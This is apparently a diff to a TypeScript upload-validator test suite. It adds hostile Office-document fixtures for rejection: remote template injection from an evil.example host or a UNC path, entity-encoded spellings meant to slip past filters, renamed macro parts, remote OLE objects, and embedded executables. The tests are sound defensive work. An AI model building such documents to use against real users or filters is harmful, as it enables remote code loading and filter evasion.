@@ -34,6 +34,13 @@ const office = (main: string, more: Record<string, Uint8Array> = {}) =>
       ...more,
     }),
   );
+/** A text whose settings refer to something. */
+const related = (type: string, target: string, mode = 'TargetMode="External"') =>
+  office('word/document.xml', {
+    'word/_rels/settings.xml.rels': strToU8(
+      `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`,
+    ),
+  });
 const DOCX = office('word/document.xml');
 const XLSX = office('xl/workbook.xml');
 
@@ -86,6 +93,13 @@ describe('a file', () => {
   });
 
   it.each([
+    ['a link that people click', 'hyperlink', 'https://example.com/'],
+    ['the place of its template on somebody’s disk', 'attachedTemplate', 'file:///C:\\Templates\\House.dotx'],
+  ])('with %s is taken', async (_what, type, target) => {
+    expect((await upload(related(type, target), { name: 'a.docx' })).kind).toBe('docx');
+  });
+
+  it.each([
     ['../../etc/passwd.pdf', 'passwd.pdf'],
     ['C:\\windows\\system32\\a.pdf', 'a.pdf'],
     ['innocent\u202Efdp.pdf', 'innocentfdp.pdf'],
@@ -113,6 +127,11 @@ describe('a hostile file', () => {
     'word/document.xml',
     Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`word/x${at}.xml`, new Uint8Array(0)])),
   );
+  const ole = Buffer.concat([
+    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
+    Buffer.alloc(70_000, 7),
+    Buffer.from('MZ!This program cannot be run in DOS mode.'),
+  ]);
   const hostile: [string, Buffer, string][] = [
     ['of another kind', PNG, 'a.pdf'],
     ['without a kind', Buffer.from('<script>alert(1)</script>'), 'a.pdf'],
@@ -126,6 +145,15 @@ describe('a hostile file', () => {
     ['that is an archive of something else', Buffer.from(zipSync({ 'a.txt': strToU8('a') })), 'a.docx'],
     ['that is a sheet called a text', XLSX, 'a.docx'],
     ['with macros', office('word/document.xml', { 'word/vbaProject.bin': strToU8('x') }), 'a.docx'],
+    ['with macros, in other letters', office('word/document.xml', { 'word/VBAPROJECT.BIN': strToU8('x') }), 'a.docx'],
+    ['with macros, under another name', related('vbaProject', 'word/data.bin', ''), 'a.docx'],
+    ['with a template from the network', related('attachedTemplate', 'https://evil.example/a.dotm'), 'a.docx'],
+    ['with a template from another machine', related('attachedTemplate', '\\\\evil\\a.dotm'), 'a.docx'],
+    ['with a template, spelled otherwise', related('attachedTempl&#97;te', '&#104;ttps://evil.example/a'), 'a.docx'],
+    ['with an object from the network', related('oleObject', 'https://evil.example/a'), 'a.docx'],
+    ['with a program', office('word/document.xml', { 'word/embeddings/a.bin': strToU8('MZ...') }), 'a.docx'],
+    ['with a program in an object', office('word/document.xml', { 'word/embeddings/o.bin': ole }), 'a.docx'],
+    ['with a program by its name', office('xl/workbook.xml', { 'xl/embeddings/a.EXE': strToU8('x') }), 'a.xlsx'],
     ['with a name that climbs', office('word/document.xml', { '../../a.xml': strToU8('x') }), 'a.docx'],
     ['that unpacks to hundreds of times its size', bomb, 'a.docx'],
     ['of ten thousand parts', many, 'a.docx'],
